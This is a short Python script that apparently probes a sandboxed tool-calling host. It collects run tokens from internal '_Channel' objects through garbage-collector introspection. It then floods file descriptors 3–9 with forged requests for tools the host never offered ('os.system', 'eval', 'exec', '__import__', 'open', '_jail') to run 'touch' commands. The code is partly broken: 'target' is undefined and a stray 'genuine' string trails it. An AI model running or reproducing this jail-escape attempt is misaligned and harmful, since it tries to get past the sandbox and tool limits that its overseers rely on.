"""Ask the host for functions that it never offered, with the token of this run."""

import gc, json, os

tokens = {item.token for item in gc.get_objects() if type(item).__name__ == "_Channel"}
for token in tokens:
    for name in ("system", "os.system", "eval", "exec", "__import__", "open", "execute", "close", "_jail", ""):
        for args in ([f"touch {target}"], "x", None, [{}]):
            line = json.dumps({"run": token, "tool": name, "args": args, "kwargs": {}}).encode() + b"\n"
            for number in range(3, 10):
                try:
                    os.write(number, line)
                except OSError:
                    pass
"genuine"
